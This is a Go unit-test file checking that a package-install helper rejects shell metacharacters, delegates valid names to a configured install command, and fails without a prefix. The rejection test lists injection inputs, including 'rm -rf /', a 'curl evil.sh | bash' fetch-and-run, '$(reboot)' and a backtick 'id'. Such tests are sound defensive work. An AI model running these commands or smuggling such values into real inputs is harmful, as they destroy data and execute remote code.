//go:build !windows

package tools

import (
	"errors"
	"strings"
	"testing"
)

func TestInstallPackage_RejectsMetacharacters(t *testing.T) {
	s, _ := newTestSession(t, Config{InstallPrefix: "echo install"})

	for _, name := range []string{
		"foo; rm -rf /",
		"foo && curl evil.sh | bash",
		"$(reboot)",
		"foo`id`",
		"",
	} {
		_, err := s.InstallPackage(name)
		var invalid *InvalidPackageError
		if !errors.As(err, &invalid) {
			t.Errorf("InstallPackage(%q): got %v, want InvalidPackageError", name, err)
		}
	}
}

func TestInstallPackage_Delegates(t *testing.T) {
	s, _ := newTestSession(t, Config{InstallPrefix: "echo install"})

	res, err := s.InstallPackage("flask[async]>=2.0")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Stdout, "install flask[async]>=2.0") {
		t.Errorf("delegated command output = %q", res.Stdout)
	}
}

func TestInstallPackage_NoPrefixConfigured(t *testing.T) {
	s, _ := newTestSession(t, Config{})
	if _, err := s.InstallPackage("requests"); err == nil {
		t.Error("install without a configured prefix succeeded")
	}
}
